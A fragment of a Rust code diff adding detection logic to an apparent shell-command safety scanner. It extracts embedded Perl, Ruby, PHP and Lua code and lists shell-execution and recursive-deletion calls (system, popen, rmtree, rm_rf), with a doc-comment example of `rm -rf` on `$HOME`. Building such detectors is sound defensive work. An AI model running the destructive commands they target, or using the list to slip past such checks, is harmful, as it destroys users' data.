+                        && let Some(v) = value(&vars, start)
+                    {
+                        scan.commands.push(v);
+                    }
+                } else if let Some(v) = value(&vars, i + 1) {
+                    // `print … | CMD`.
+                    scan.commands.push(v);
+                }
+            }
+            _ => {}
+        }
+        if scan.commands.len() > 64 {
+            break;
+        }
+    }
+    // Network files are connections, not commands.
+    scan.commands.retain(|(c, _)| {
+        let net = c.starts_with("/inet");
+        scan.inet |= net;
+        !net
+    });
+    scan
+}
+
+/// The code of `perl -e CODE`, `perl -lne CODE`, `ruby -e`, `php -r`,
+/// `lua -e` (several `-e` are joined).
+fn foreign_program(args: &[Word]) -> Option<Word> {
+    let mut out: Option<Word> = None;
+    let mut i = 0;
+    while i < args.len() {
+        let t = args[i].text.as_str();
+        if !t.starts_with('-') || t == "--" {
+            break;
+        }
+        let code_opt = matches!(t, "-e" | "-E" | "-r" | "-c")
+            || (t.len() > 2
+                && !t.starts_with("--")
+                && t.ends_with(['e', 'E'])
+                && t[1..t.len() - 1].chars().all(|c| "lanpswWtTU0".contains(c)));
+        if code_opt {
+            if let Some(w) = args.get(i + 1) {
+                match &mut out {
+                    Some(o) => {
+                        o.text.push('\n');
+                        o.text.push_str(&w.text);
+                        o.dynamic |= w.dynamic;
+                        o.taint |= w.taint;
+                        o.range.end = w.range.end;
+                    }
+                    None => out = Some(w.clone()),
+                }
+            }
+            i += 2;
+        } else {
+            i += 1;
+        }
+    }
+    out
+}
+
+/// Writes the usual ways of naming the home directory in Perl, Ruby, PHP
+/// and Lua as `$HOME`.
+fn home_expressions(code: &str) -> Cow<'_, str> {
+    const HOME: &[&str] = &[
+        "File.expand_path(\"~\")",
+        "File.expand_path('~')",
+        "os.getenv(\"HOME\")",
+        "os.getenv('HOME')",
+        "$ENV{HOME}",
+        "$ENV{'HOME'}",
+        "$ENV{\"HOME\"}",
+        "ENV[\"HOME\"]",
+        "ENV['HOME']",
+        "ENV.fetch(\"HOME\")",
+        "ENV.fetch('HOME')",
+        "Dir.home()",
+        "Dir.home",
+        "getenv(\"HOME\")",
+        "getenv('HOME')",
+        "$_SERVER['HOME']",
+        "#{$HOME}",
+    ];
+    if !code.contains("HOME") && !code.contains("home") && !code.contains('~') {
+        return Cow::Borrowed(code);
+    }
+    let mut out = code.to_string();
+    for h in HOME {
+        if out.contains(h) {
+            out = out.replace(h, "$HOME");
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// Where an identifier `word` occurs in `code` as a whole word.
+fn word_positions<'a>(code: &'a str, word: &'a str) -> impl Iterator<Item = usize> + 'a {
+    code.match_indices(word)
+        .map(|(i, _)| i)
+        .take(256)
+        .filter(move |&i| {
+            let before = code[..i].chars().next_back();
+            let after = code[i + word.len()..].chars().next();
+            !before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$' || c == '@')
+                && !after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
+        })
+}
+
+/// The argument text of a call at `rest` (just after the function name):
+/// `(…)` up to the matching parenthesis, or up to the end of the statement.
+fn call_args(rest: &str) -> &str {
+    // Bounded, so that many calls in one long program stay linear.
+    let mut cut = rest.len().min(4096);
+    while !rest.is_char_boundary(cut) {
+        cut -= 1;
+    }
+    let t = rest[..cut].trim_start();
+    if let Some(inner) = t.strip_prefix('(') {
+        let mut depth = 1usize;
+        let mut quote: Option<char> = None;
+        for (i, c) in inner.char_indices() {
+            match (quote, c) {
+                (Some(q), c) if c == q => quote = None,
+                (Some(_), _) => {}
+                (None, '"' | '\'') => quote = Some(c),
+                (None, '(') => depth += 1,
+                (None, ')') => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return &inner[..i];
+                    }
+                }
+                _ => {}
+            }
+        }
+        return inner;
+    }
+    let end = t.find([';', '\n', '}']).unwrap_or(t.len());
+    &t[..end]
+}
+
+/// The string literals of an argument list (`"rm", "-rf", $d` or
+/// `"rm -rf " + $HOME`), joined with spaces; each run-time part (a variable,
+/// a call) becomes `$X`. `None` without any literal (or `$HOME`).
+fn literal_args(args: &str) -> Option<(String, bool)> {
+    let mut text = String::new();
+    let mut dynamic = false;
+    let mut any = false;
+    let mut in_other = false;
+    let b = args.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        match c {
+            b'"' | b'\'' => {
+                i += 1;
+                while i < b.len() && b[i] != c {
+                    if b[i] == b'\\' && i + 1 < b.len() {
+                        i += 1;
+                    }
+                    let ch_len = args[i..].chars().next().map_or(1, char::len_utf8);
+                    text.push_str(&args[i..i + ch_len]);
+                    i += ch_len;
+                }
+                any = true;
+                in_other = false;
+            }
+            b'$' if args[i..].starts_with("$HOME") => {
+                text.push_str("$HOME");
+                i += 4;
+                any = true;
+                in_other = false;
+            }
+            b',' => {
+                text.push(' ');
+                in_other = false;
+            }
+            b'+' => in_other = false,
+            b' ' | b'\t' | b'\n' | b'.' | b'(' | b')' => {}
+            _ => {
+                if !in_other {
+                    text.push_str("$X");
+                    dynamic = true;
+                    in_other = true;
+                }
+            }
+        }
+        i += 1;
+    }
+    any.then_some((text, dynamic))
+}
+
+/// The text of the first argument in an argument list (up to a comma
+/// outside quotes and brackets).
+fn first_arg(args: &str) -> &str {
+    let mut quote: Option<char> = None;
+    let mut depth = 0usize;
+    for (i, c) in args.char_indices() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, '"' | '\'') => quote = Some(c),
+            (None, '(' | '[' | '{') => depth += 1,
+            (None, ')' | ']' | '}') => depth = depth.saturating_sub(1),
+            (None, ',') if depth == 0 => return &args[..i],
+            _ => {}
+        }
+    }
+    args
+}
+
+/// Shell commands in Perl/Ruby/PHP/Lua code: literal arguments of
+/// `system`, `exec`, `popen`, … and backticks / `qx{}` / `%x()`.
+fn foreign_commands(code: &str) -> Vec<(String, bool)> {
+    const CALLS: &[&str] = &[
+        "system",
+        "exec",
+        "spawn",
+        "popen",
+        "shell_exec",
+        "passthru",
+        "proc_open",
+        "os.execute",
+        "capture2",
+        "capture2e",
+        "capture3",
+        "popen3",
+    ];
+    let mut out = Vec::new();
+    for call in CALLS {
+        for i in word_positions(code, call) {
+            if let Some(v) = literal_args(call_args(&code[i + call.len()..])) {
+                out.push(v);
+            }
+            if out.len() >= 32 {
+                return out;
+            }
+        }
+    }
+    // Backticks, qx{…}, %x(…).
+    let mut rest = code;
+    while let Some(i) = rest.find('`') {
+        let after = &rest[i + 1..];
+        let Some(j) = after.find('`') else { break };
+        out.push((after[..j].to_string(), after[..j].contains(['$', '@', '#'])));
+        rest = &after[j + 1..];
+    }
+    for opener in ["qx", "%x"] {
+        for (i, _) in code.match_indices(opener).take(64) {
+            let after = &code[i + 2..];
+            let Some(open) = after.chars().next() else {
+                continue;
+            };
+            let close = match open {
+                '{' => '}',
+                '(' => ')',
+                '[' => ']',
+                '<' => '>',
+                '/' | '!' | '|' => open,
+                _ => continue,
+            };
+            if let Some(j) = after[1..].find(close) {
+                let cmd = &after[1..1 + j];
+                out.push((cmd.to_string(), cmd.contains(['$', '@', '#'])));
+            }
+        }
+    }
+    out
+}
+
+/// The known targets of recursive deletions in Perl/Ruby/PHP code
+/// (`rmtree`, `remove_tree`, `FileUtils.rm_rf`, …).
+fn foreign_tree_deletions(code: &str) -> Vec<String> {
+    const CALLS: &[&str] = &[
+        "rmtree",
+        "remove_tree",
+        "rm_rf",
+        "rm_r",
+        "remove_dir",
+        "remove_entry",
+        "remove_entry_secure",
+    ];
+    let mut out = Vec::new();
+    for call in CALLS {
+        for i in word_positions(code, call) {
+            let args = call_args(&code[i + call.len()..]);
+            // Only the first argument, and only when it is wholly known.
+            let Some((path, dynamic)) = literal_args(first_arg(args)) else {
+                continue;
+            };
+            if !dynamic && !path.is_empty() {
+                out.push(path);
+            }
+        }
+    }
+    out
+}
+
+/// `args` without leading options (none of which take a value).
+fn skip_opts_plain(args: &[Word]) -> &[Word] {
+    let i = args
+        .iter()
+        .position(|w| !w.text.starts_with('-'))
+        .unwrap_or(args.len());
+    &args[i..]
 }
 
 fn push_split(argv: &mut Vec<Word>, w: Word) {
